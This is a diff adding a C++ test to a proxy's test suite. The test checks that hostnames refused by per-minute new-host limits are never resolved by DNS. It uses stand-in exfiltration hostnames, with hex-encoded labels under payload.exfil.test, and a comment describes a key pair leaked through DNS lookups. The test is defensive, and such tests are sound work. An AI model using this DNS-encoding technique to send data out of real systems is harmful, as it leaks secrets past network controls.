@@ -71,5 +71,24 @@ TEST_F(DnsTest, AnswersAreCachedForTheirTtl) {
   EXPECT_EQ(proxy_get(port, url("dns-ok.test")).status, 200);
 }
 
+// A lookup is itself data sent out, to the name's servers: a name the guardian's limits
+// refuse (a new host past new_hosts_per_minute, a rate, a spent budget) is never looked
+// up. A hostile review got a key pair out in names answered 429, each looked up first.
+class DnsGuardTest : public ProxyTest {};
+
+TEST_F(DnsGuardTest, ANameTheLimitsRefuseIsNeverLookedUp) {
+  Dnsmasq dns({"--log-queries", "--address=/exfil.test/127.0.0.1"});
+  start_proxy(base_policy(R"("allow": ["*.exfil.test"], "limits": {"new_hosts_per_minute": 1})"), {dns.server()});
+  const std::string port_text = ":" + std::to_string(upstream.port()) + "/";
+  EXPECT_EQ(proxy_get(port, "http://first.exfil.test" + port_text).status, 200);
+  for (const char* name : {"414b4941494f53464f4.payload.exfil.test", "44e4e374558414d504c.payload.exfil.test"}) {
+    const auto r = proxy_get(port, std::string("http://") + name + port_text);
+    EXPECT_EQ(r.status, 429) << name;
+    EXPECT_EQ(r.header("x-netbox-decision"), "cap") << name;
+  }
+  EXPECT_NE(dns.log().find("first.exfil.test"), std::string::npos) << dns.log();
+  EXPECT_EQ(dns.log().find("payload"), std::string::npos) << "a refused name was looked up:\n" << dns.log();
+}
+
 }  // namespace
 }  // namespace netbox::test
